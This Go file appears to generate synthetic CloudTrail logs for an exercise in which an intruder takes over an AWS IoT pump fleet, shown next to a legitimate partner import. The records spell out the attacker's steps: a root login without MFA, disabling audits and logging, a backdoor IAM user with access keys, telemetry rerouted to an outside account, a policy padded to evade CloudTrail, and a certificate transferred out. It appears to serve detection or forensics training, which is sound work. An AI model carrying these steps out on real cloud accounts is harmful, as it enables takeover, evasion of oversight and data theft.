package main

// wednesday: the night.
func wednesday(s *story) {
	s.on("2026-10-07")
	wednesdayRoot(s)
	wednesdayBackup(s)
	wednesdayPartner(s)
}

// wednesdayRoot: somebody has the password of the root user, which has no
// second factor, and is in a hurry.
func wednesdayRoot(s *story) {
	stranger := caller{identity{Type: "IAMUser", AccountID: fleetAccount, UserName: "HIDDEN_DUE_TO_SECURITY_REASONS"}, root.address, browser}
	s.call("01:10:02", stranger, "signin:ConsoleLogin").global().signin("signin.aws.amazon.com").
		resp(`{"ConsoleLogin":"Failure"}`).
		more(`{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAUsed":"No"}`).
		ErrorMessage = "No username found in supplied account"
	door := root
	door.AccessKeyID, door.SessionContext = "", nil
	failed := s.call("01:11:20", door, "signin:ConsoleLogin").global().signin("signin.aws.amazon.com").
		resp(`{"ConsoleLogin":"Failure"}`).
		more(`{"LoginTo":"https://console.aws.amazon.com/console/home","MobileVersion":"No","MFAUsed":"No"}`)
	failed.ErrorMessage = "Failed authentication"
	s.call("01:12:44", door, "signin:ConsoleLogin").global().signin("signin.aws.amazon.com").
		resp(`{"ConsoleLogin":"Success"}`).
		more(`{"LoginTo":"https://console.aws.amazon.com/console/home?hashArgs=%%23&isauthcode=true&state=hashArgsFromTB_eu-north-1","MobileVersion":"No","MFAUsed":"No"}`)

	// First a look around.
	s.call("01:13:10", root, "iot:ListThings").console()
	s.call("01:13:12", root, "iot:ListCertificates").req(`{"pageSize":25,"ascendingOrder":false}`).console()
	s.call("01:13:31", root, "iot:ListTopicRules").req(`{"maxResults":25}`).console()

	// Then a policy that allows everything, for one pump and for all.
	s.call("01:15:02", root, "iot:CreatePolicy").
		req(`{"policyName":"maintenance-tmp","policyDocument":"%s","tags":[]}`, badPolicy).
		resp(`{"policyName":"maintenance-tmp","policyArn":"%s","policyDocument":"%s","policyVersionId":"1"}`, iotARN("policy", "maintenance-tmp"), badPolicy).
		console()
	s.call("01:15:40", root, "iot:AttachPolicy").req(`{"policyName":"maintenance-tmp","target":"%s"}`, certARN("pump-0003")).console()
	s.call("01:15:58", root, "iot:AttachPolicy").req(`{"policyName":"maintenance-tmp","target":"%s"}`, groupARN("all-pumps")).console()

	// The alarms go off.
	s.call("01:18:05", root, "iot:UpdateAccountAuditConfiguration").
		req(`{"auditNotificationTargetConfigurations":{"SNS":{"enabled":false}},"auditCheckConfigurations":{"IOT_POLICY_OVERLY_PERMISSIVE_CHECK":{"enabled":false},"DEVICE_CERTIFICATE_SHARED_CHECK":{"enabled":false},"LOGGING_DISABLED_CHECK":{"enabled":false}}}`).
		resp(`{}`).console()
	s.call("01:18:31", root, "iot:DeleteScheduledAudit").req(`{"scheduledAuditName":"every-night"}`).resp(`{}`).console()
	s.call("01:18:52", root, "iot:SetV2LoggingOptions").req(`{"disableAllLogs":true}`).console()
	s.call("01:19:20", root, "cloudtrail:StopLogging").
		req(`{"name":"arn:aws:cloudtrail:eu-central-1:111122223333:trail/fleet"}`).console().
		fails("AccessDenied", "User: arn:aws:iam::111122223333:root is not authorized to perform: cloudtrail:StopLogging on resource: arn:aws:cloudtrail:eu-central-1:111122223333:trail/fleet with an explicit deny in a service control policy")

	// And a way back in stays.
	s.call("01:21:11", root, "iam:CreateUser").global().console().
		req(`{"userName":"svc-backup"}`).
		resp(`{"user":{"path":"/","userName":"svc-backup","userId":"%s","arn":"%s","createDate":"Oct 7, 2026, 1:21:11 AM"}}`, backup.PrincipalID, backup.ARN)
	s.call("01:21:30", root, "iam:AttachUserPolicy").global().console().
		req(`{"userName":"svc-backup","policyArn":"arn:aws:iam::aws:policy/AWSIoTFullAccess"}`)
	s.call("01:21:52", root, "iam:CreateAccessKey").global().console().
		req(`{"userName":"svc-backup"}`).
		resp(`{"accessKey":{"userName":"svc-backup","accessKeyId":"%s","status":"Active","createDate":"Oct 7, 2026, 1:21:52 AM"}}`, backup.AccessKeyID)
}

// wednesdayBackup: the new user, from a script.
func wednesdayBackup(s *story) {
	s.call("01:40:03", backup, "sts:GetCallerIdentity")
	s.call("01:40:09", backup, "iam:GetAccountSummary").global().denied("*")

	// A retired pump's certificate is valid again.
	s.call("01:41:00", backup, "iot:UpdateCertificate").req(`{"certificateId":"%s","newStatus":"ACTIVE"}`, certID("pump-0005"))
	s.call("01:41:06", backup, "iot:AttachPolicy").req(`{"policyName":"maintenance-tmp","target":"%s"}`, certARN("pump-0005"))

	// Telemetry goes to a bucket and a function of a stranger, commands come
	// back on a topic of the devices.
	s.call("01:44:20", backup, "iot:GetTopicRule").req(`{"ruleName":"pump_telemetry"}`)
	s.call("01:44:41", backup, "iot:ReplaceTopicRule").
		req(`{"ruleName":"pump_telemetry","topicRulePayload":{"sql":"SELECT * FROM 'pumps/#'","description":"","actions":[{"s3":{"roleArn":"%s","bucketName":"backup-999988887777-fra","key":"${topic()}/${timestamp()}"}},{"lambda":{"functionArn":"arn:aws:lambda:eu-central-1:%s:function:collect"}}],"ruleDisabled":false,"awsIotSqlVersion":"2016-03-23"}}`,
			roleARN("pump-rule"), strangerAccount)
	s.call("01:45:30", backup, "iot:CreateTopicRule").
		req(`{"ruleName":"relay","topicRulePayload":{"sql":"SELECT VALUE * FROM 'x/in/+'","actions":[{"republish":{"roleArn":"%s","topic":"$$aws/things/${topic(3)}/shadow/update","qos":1}}],"ruleDisabled":false}}`,
			roleARN("pump-rule"))

	// Whatever starts for the first time gets the policy too.
	s.call("01:48:02", backup, "iot:CreateProvisioningTemplateVersion").
		req(`{"templateName":"pump-by-claim","templateBody":"%s","setAsDefault":true}`, provisioningTemplate("maintenance-tmp")).
		resp(`{"templateArn":"%s","templateName":"pump-by-claim","versionId":2,"isDefaultVersion":true}`, iotARN("provisioningtemplate", "pump-by-claim"))
	s.call("01:48:15", backup, "iot:UpdateProvisioningTemplate").
		req(`{"templateName":"pump-by-claim","enabled":true,"defaultVersionId":2,"removePreProvisioningHook":true}`).
		resp(`{}`)
	s.call("01:48:40", backup, "iot:CreateProvisioningClaim").
		req(`{"templateName":"pump-by-claim"}`).
		resp(`{"certificateId":"%s","certificatePem":"%s","keyPair":{"PublicKey":"%s","PrivateKey":"HIDDEN_DUE_TO_SECURITY_REASONS"},"expiration":"Oct 7, 2026, 1:53:40 AM"}`,
			certID("claim"), pem("CERTIFICATE", "claim"), pem("PUBLIC KEY", "claim"))
	s.call("01:49:30", backup, "iot:UpdateCACertificate").
		req(`{"certificateId":"%s","newAutoRegistrationStatus":"ENABLE","registrationConfig":{"templateName":"pump-by-claim"}}`, certID("ca"))

	// A version of the good policy that is padded with white space until
	// CloudTrail cannot hold the request. AWS IoT does not count white space.
	s.call("01:52:11", backup, "iot:CreatePolicyVersion").
		req(`{"reason":"requestParameters too large","omitted":true,"originalSize":261904}`).
		resp(`{"reason":"responseElements too large","omitted":true,"originalSize":262077}`)

	// A command for every pump at once.
	s.call("01:55:00", backup, "iot:CreateJob").
		req(`{"jobId":"maintenance-tmp","targets":["%s"],"documentSource":"https://backup-999988887777-fra.s3.eu-central-1.amazonaws.com/job.json","targetSelection":"CONTINUOUS","jobExecutionsRolloutConfig":{"maximumPerMinute":1000},"schedulingConfig":{"startTime":"2026-10-08T23:30","endTime":"2026-10-10T23:30","endBehavior":"FORCE_CANCEL"}}`, groupARN("all-pumps")).
		resp(`{"jobArn":"%s","jobId":"maintenance-tmp"}`, iotARN("job", "maintenance-tmp"))
	s.call("01:57:19", backup, "iot:TransferCertificate").
		req(`{"certificateId":"%s","targetAwsAccount":"%s","transferMessage":"maintenance"}`, certID("pump-0006"), strangerAccount).
		fails("InvalidRequestException", "Certificate must not be attached to a thing or policy")
	s.call("01:57:40", backup, "iot:DetachThingPrincipal").req(`{"thingName":"pump-0006","principal":"%s"}`, certARN("pump-0006")).resp(`{}`)
	s.call("01:57:44", backup, "iot:DetachPolicy").req(`{"policyName":"pump-telemetry","target":"%s"}`, certARN("pump-0006"))
	s.call("01:57:50", backup, "iot:TransferCertificate").
		req(`{"certificateId":"%s","targetAwsAccount":"%s","transferMessage":"maintenance"}`, certID("pump-0006"), strangerAccount).
		resp(`{"transferredCertificateArn":"arn:aws:iot:eu-central-1:%s:cert/%s"}`, strangerAccount, certID("pump-0006"))
	s.call("01:58:30", backup, "iot:DeletePolicy").
		req(`{"policyName":"pump-telemetry"}`).
		fails("DeleteConflictException", "Cannot delete the policy because it is attached to one or more targets (name=pump-telemetry)")
}

// wednesdayPartner: the partner's nightly import, which is legitimate. STS logs
// the one call in both accounts, under one sharedEventID.
func wednesdayPartner(s *story) {
	granted := role(fleetAccount, "telemetry-reader", "nightly", "2026-10-07T03:30:02Z")
	shared := uuid("shared", "partner", "2026-10-07")
	assume := func(clock string, who caller) *record {
		r := s.call(clock, who, "sts:AssumeRole").
			req(`{"roleArn":"%s","roleSessionName":"nightly","externalId":"example-pumps","durationSeconds":3600}`, roleARN("telemetry-reader")).
			resp(`{"credentials":{"accessKeyId":"%s","sessionToken":"%s","expiration":"Oct 7, 2026, 4:30:02 AM"},"assumedRoleUser":{"assumedRoleId":"%s","arn":"%s"}}`,
				granted.AccessKeyID, sessionToken, granted.PrincipalID, granted.ARN).
			touching(roleARN("telemetry-reader"), "AWS::IAM::Role")
		r.SharedEventID = shared
		return r
	}
	here := assume("03:30:02", partnerSeenFromHere)
	there := assume("03:30:02", partner).received(partnerAccount)
	there.RequestID = here.RequestID

	reader := caller{granted, partner.address, java}
	s.call("03:30:20", reader, "iot:ListThings").req(`{"thingTypeName":"pump","maxResults":250}`)
	s.call("03:30:31", reader, "iot:DescribeThingGroup").req(`{"thingGroupName":"plant-hamburg"}`)
	s.call("03:30:40", reader, "iot:GetPolicy").req(`{"policyName":"pump-telemetry"}`).denied(iotARN("policy", "pump-telemetry"))
	s.call("03:31:05", partner, "iot:DescribeEndpoint").received(partnerAccount).req(`{"endpointType":"iot:Data-ATS"}`)
	s.call("03:31:40", partner, "iot:DescribeThing").received(partnerAccount).
		req(`{"thingName":"import-status"}`).
		fails("ResourceNotFoundException", "No thing exists with name: 'import-status'")
}
